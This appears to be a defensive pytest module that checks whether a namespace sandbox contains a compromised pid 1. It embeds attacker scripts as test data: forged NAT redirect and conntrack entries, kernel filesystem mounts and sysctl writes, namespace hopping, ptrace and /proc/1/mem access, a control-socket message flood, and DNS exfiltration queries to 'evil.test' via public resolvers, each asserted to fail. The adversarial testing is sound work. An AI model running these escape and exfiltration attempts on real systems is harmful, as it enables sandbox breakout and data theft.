"""The worst case: the box's pid 1 is taken, with every capability of its user namespace.

Programs run here as pid 1 itself would: its ids, all its capabilities, in U1 and not in U2, and without the
filter of system calls that pid 1 has. Rules, addresses, interfaces and packets are the attacker's to make.
Nothing is reachable all the same: the namespace leads nowhere but to the gate's listeners, and what arrives
there is a claim.
"""

import asyncio
import contextlib
import time
from collections.abc import AsyncIterator
from typing import Final

import pytest
import pytest_asyncio

from box_policy.policy.reasons import Reason
from box_policy.sandbox.launcher import BoxSpec
from box_policy.sandbox.namespaces import NamespaceLauncher
from box_policy.sandbox.namespaces import launcher as launcher_module
from tests.adversary.arena import Arena, Inmate, ids
from tests.adversary.attack import Attack, breaches
from tests.adversary.attacker import interpreter
from tests.adversary.kernel_attacks import attacks, python
from tests.adversary.test_isolation import ATTACKS as AS_ROOT
from tests.lab import Lab, plan

pytestmark = pytest.mark.asyncio(loop_scope="module")

# As pid 1's own child is, but for the steps that make it a program of the box: no U2, no cut of capabilities,
# no filter of its own. ``{control}`` leaves it pid 1's control socket, too.
_TAKEN: Final = """
import sys; sys.path[:0] = [sys.argv[1]]
import os
from box_policy.sandbox.namespaces import seccomp, workload, zygote
def run(request, stdio, terminal, report, rights):
    try:
        os.setsid()
        for target, fd in enumerate(stdio):
            os.dup2(fd, target)
        for fd in map(int, os.listdir("/proc/self/fd")):
            if fd > 2 and fd != report and os.path.exists("/proc/self/fd/%d" % fd):
                {leave}
        workload._reset_signals()
        workload._execute(request, rights.environment)
    except BaseException as error:
        workload._refuse(report, 5, repr(error))
    finally:
        os._exit(127)
workload.run = run
{filters}
zygote.main()
"""
_CLOSED: Final = "os.close(fd)"
_LEFT_OPEN: Final = "os.set_inheritable(fd, True)"
_NO_FILTERS: Final = "seccomp.init_rules = lambda: []"
_REST: Final = 0.3
"""Seconds for what the gate may still be about. A box with its network in ruins never tells of its end."""


def taken(filters: str = _NO_FILTERS, leave: str = _CLOSED) -> str:
    """The code of a zygote whose boxes' programs have the rights of pid 1."""
    return _TAKEN.format(filters=filters, leave=leave)


async def make_launcher(code: str) -> NamespaceLauncher:
    """A launcher with such a zygote; the test is skipped where there are no boxes."""
    if interpreter() is None:
        pytest.skip("no python3 in a system directory, so none in a box")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(launcher_module, "_ZYGOTE_CODE", code)
        launcher = NamespaceLauncher()
        await (await launcher.create(BoxSpec("probe"))).close()
    return launcher


@contextlib.asynccontextmanager
async def opened(lab: Lab, code: str) -> AsyncIterator[Arena]:
    """An arena whose boxes come from such a zygote."""
    launcher = await make_launcher(code)
    arena = await Arena.open(lab, launcher)
    try:
        yield arena
    finally:
        await arena.close()
        await launcher.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def bare(running_lab: Lab) -> AsyncIterator[Arena]:
    """An arena whose boxes are taken."""
    async with opened(running_lab, taken()) as arena:
        yield arena


async def holds(arena: Arena, attack: Attack) -> str:
    """Carry an attack out in a new box, which it may ruin; nothing gets out. What it has seen."""
    inmate = await arena.inmate(attack.policy, id="victim")
    arena.begin(inmate)
    arena.errors.clear()
    seen = await attack.act(inmate.attacker)
    await inmate.attacker.do("release")
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(_REST):
            await arena.rest(inmate)
    nonce = inmate.attacker.nonce
    await arena.dismiss(inmate)
    assert breaches(arena.lab, attack, nonce) == []
    assert arena.lab.loopback_packets(protocol="tcp") == []
    assert [record.getMessage() for record in arena.errors] == []
    return str(seen)


async def test_what_is_tried_here_has_the_rights(bare: Arena) -> None:
    inmate = await bare.inmate(id="rights")
    status = "result = open('/proc/self/status').read().split('CapEff:')[1].split()[0]"
    assert int(str(await python(inmate, status)), 16).bit_count() > 38
    assert await python(inmate, "result = attempt(flush_rules)") == "done"
    assert await python(inmate, "result = attempt(add_address, '51.81.66.66')") == "done"
    assert await python(inmate, "result = attempt(socket.socket, 17, 3)") == "done"


@pytest.mark.parametrize("attack", AS_ROOT, ids=ids(AS_ROOT))
async def test_what_a_root_of_the_box_tries(bare: Arena, attack: Attack) -> None:
    await holds(bare, attack)


WORSE = [
    Attack(
        name="original destinations forged by rules",
        policy="allow-all",
        act=attacks(
            """
# Whatever is dialled on these ports arrives at the gate's listener, from addresses that are local here.
ends = []
for port in (22, 80, 8081, 9418):
    redirect_rules(port)
for address in (GATE, GATE6, "192.168.1.1", "169.254.169.254"):
    attempt(add_address, address)
for address in ("127.0.0.1", "127.9.9.9", "::1", "10.0.2.15", GATE, GATE6, "0.0.0.0", "::ffff:127.0.0.1",
                "192.168.1.1", "169.254.169.254", "fd00:2::15"):
    for port in (22, 80, 8081, 9418):
        ends.append(says(address, port, b"GET /%s HTTP/1.1\\r\\nHost: 127.0.0.1:8081\\r\\n\\r\\n" % NONCE))
result = together(ends)
"""
        ),
    ),
    Attack(
        name="original destinations forged in connection tracking",
        policy="allow-all",
        act=attacks(
            """
# A connection that was never made, from a port of the box's to the listener, bound for the gate's host.
def tuple_of(kind, source, destination, source_port, port):
    ip = nested(1, attribute(1, packed(source)), attribute(2, packed(destination)))
    ports = [attribute(2, struct.pack("!H", source_port)), attribute(3, struct.pack("!H", port))]
    return nested(kind, ip, nested(2, attribute(1, b"\\6"), *ports))
for number, address in enumerate(("127.0.0.1", GATE, "169.254.169.254")):
    source = 20000 + number
    entry = tuple_of(1, "127.0.0.1", address, source, 8081)
    entry += tuple_of(2, "127.0.0.1", "127.0.0.1", 61001, source)
    entry += attribute(3, struct.pack("!I", 8)) + attribute(7, struct.pack("!I", 60))
    entry += nested(4, nested(1, attribute(1, b"\\1")))
    made = attempt(talk, NETFILTER, message(0x100, 0x605, struct.pack("=BBH", 2, 0, 0) + entry))
    def choose(sock):
        sock.bind(("127.0.0.1", source))
    says("127.0.0.1", 61001, b"GET /%s HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n" % NONCE, choose)
result = made
"""
        ),
    ),
    Attack(
        name="the kernel's own settings and file systems",
        act=attacks(
            """
os.mkdir("/tmp/proc")
for kind in (b"proc", b"sysfs", b"cgroup2", b"cgroup", b"devtmpfs", b"debugfs", b"bpf", b"nfs"):
    attempt(call, "mount", kind, b"/tmp/proc" if kind == b"proc" else b"/mnt", kind, 0, 0)
attempt(call, "mount", b"none", b"/proc/sys", 0, 0x1020 & ~1, 0)
for name, value in (("user/max_user_namespaces", "99"), ("user/max_net_namespaces", "99"),
                    ("net/ipv4/ip_forward", "1"), ("net/ipv4/conf/all/route_localnet", "1"),
                    ("net/ipv4/conf/all/accept_local", "1"), ("net/ipv4/conf/lo/forwarding", "1"),
                    ("net/ipv6/conf/all/forwarding", "1"), ("net/ipv4/ip_nonlocal_bind", "1")):
    for top in ("/tmp/proc/sys/", "/proc/sys/"):
        attempt(lambda: open(top + name, "w").write(value))
def go():
    attempt(add_default_route, 1)
    datagrams()
    packets()
    says(timeout=0.1)
for kinds in (NEW_USER | NEW_NET, NEW_NET):
    in_child(lambda: attempt(call, "unshare", kinds) == "done" and go())
assert open("/proc/1/comm").read() == "box-init\\n"  # all that is seen here is the box's
import glob
for path in glob.glob("/tmp/proc/*/ns/net") + glob.glob("/proc/*/ns/net"):
    in_child(lambda: attempt(lambda: call("setns", os.open(path, 0), 0)) == "done" and go())
go()
result = "tried"
"""
        ),
    ),
    Attack(
        name="DNS led elsewhere",
        act=attacks(
            """
# To a server of the box's own, which asks the world by every means that there is.
question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x10" + NONCE + b"\\4evil\\4test\\0\\0\\1\\0\\1"
attempt(lambda: redirect_rules(53, protocol=17, to=5353))
server = opened(2, 2)
server.bind(("0.0.0.0", 5353))
for address in ("51.81.53.53", "8.8.8.8", GATE, "127.0.0.1"):
    sock = opened(2, 2, timeout=0.2)
    attempt(sock.sendto, question, (address, 53))
    attempt(server.sendto, question, (address, 53))
attempt(drop_rules, "own")
attempt(drop_rules, "box")
for address in ("51.81.53.53", "8.8.8.8", GATE):
    attempt(sock.sendto, question, (address, 53))
result = "tried"
"""
        ),
    ),
]


@pytest.mark.parametrize("attack", WORSE, ids=ids(WORSE))
async def test_what_only_pid_1_can(bare: Arena, attack: Attack) -> None:
    await holds(bare, attack)


async def test_forged_destinations_are_recorded_for_what_they_are(bare: Arena) -> None:
    (attack,) = (attack for attack in WORSE if "by rules" in attack.name)
    await holds(bare, attack)
    forged = {(record.claimed_address, record.claimed_port) for record in bare.records}
    assert {("127.0.0.1", 22), ("127.9.9.9", 8081), ("::1", 80), (plan.GATE4, 9418)} <= forged
    assert {record.reason for record in bare.records} == {Reason.SPECIAL_ADDRESS}


async def test_what_no_network_namespace_holds(running_lab: Lab) -> None:
    # AF_VSOCK leads to the hypervisor from wherever it opens: that is what pid 1 has its own filter for.
    tried = """
result = [attempt(lambda: socket.socket(family, 1).close()) for family in (40, 31, 38, 44)]
result += [attempt(call, "io_uring_setup", 8, ctypes.create_string_buffer(120))]
for name in ("bpf", "mount", "umount2", "keyctl", "userfaultfd"):
    result.append(attempt(call, name, 0, 0, 0, 0, 0))
result += [attempt(call, "unshare", flag) for flag in (NEW_USER, NEW_NET, 0x20000)]
result += [attempt(flush_rules), attempt(socket.socket, 2, 3, 255)]
"""
    async with opened(running_lab, taken(filters="")) as arena:
        ends = await python(await arena.inmate(id="families"), tried)
    assert ends == ["EAFNOSUPPORT"] * 4 + ["ENOSYS"] + ["EPERM"] * 8 + ["EPROTONOSUPPORT", "EPERM"]


async def test_nothing_of_pid_1s_own_can_be_had(bare: Arena) -> None:
    # Its memory was made in the host's user namespace, over which nothing in the box has a capability.
    ends = await python(
        await bare.inmate(id="init"),
        """
buffer = struct.pack("=QQ", 0x1000, 8)
result = [
    attempt(call, "ptrace", 16, 1, 0, 0),
    attempt(lambda: call("pidfd_getfd", call("pidfd_open", 1, 0), 3, 0)),
    attempt(call, "process_vm_writev", 1, buffer, 1, buffer, 1, 0),
    *(attempt(os.open, "/proc/1/" + name, os.O_RDONLY) for name in ("mem", "environ", "ns/net", "root")),
    attempt(os.listdir, "/proc/1/fd"),
]
""",
    )
    assert isinstance(ends, list)
    assert set(ends) <= {"EPERM", "EACCES"}


async def served(arena: Arena, inmate: Inmate) -> bool:
    """Does a neighbour, who did nothing, reach what it may?"""
    line = await inmate.attacker.connect(plan.CIDR4, 443)
    result = await line.tls("allowed.test")
    await line.close()
    return line.error is None and "version" in result


async def test_listeners_destroyed_from_within_cost_the_gate_nothing(bare: Arena) -> None:
    # What listens no more is ready for ever: epoll would tell the gate so without a pause.
    destroyer, neighbour = [await bare.inmate(id=name) for name in ("destroyer", "neighbour")]
    ends = await python(
        destroyer, "result = destroy_sockets(2, 6, 1 << 10) + destroy_sockets(10, 6, 1 << 10)"
    )
    assert ends == ["done"] * 4
    before, start = time.process_time(), time.monotonic()
    await asyncio.sleep(0.2)  # that nobody is busy can only be seen over a while
    assert time.process_time() - before < 0.1 * (time.monotonic() - start)
    assert await served(bare, neighbour)
    await bare.dismiss(destroyer)


async def test_a_flood_of_messages_holds_nobody_up(running_lab: Lab) -> None:
    # With pid 1's own control socket, which leads into the process that the gate runs in.
    async with opened(running_lab, taken(leave=_LEFT_OPEN)) as arena:
        flooding, neighbour = [await arena.inmate(id=name) for name in ("flooding", "neighbour")]
        flood = await python(
            flooding,
            """
messages = [b'{"event": "ended", "id": 999, "status": 0}', b'{"event": "done", "id": 999, "paused": false}',
            b'{"event": "started", "id": 999, "pid": 3, "terminal": false}']
for fd in range(3, 64):
    try:
        sock = socket.socket(fileno=fd)
    except OSError:
        continue
    if sock.type == socket.SOCK_SEQPACKET:
        break
    sock.detach()
sock.setblocking(True)
for message in messages:
    if os.fork() == 0:
        try:
            while True:
                sock.send(message)
        finally:
            os._exit(0)
result = "begun"
""",
        )
        assert flood == "begun"
        begun = time.monotonic()
        for _ in range(5):
            assert await served(arena, neighbour)
        assert time.monotonic() - begun < 3
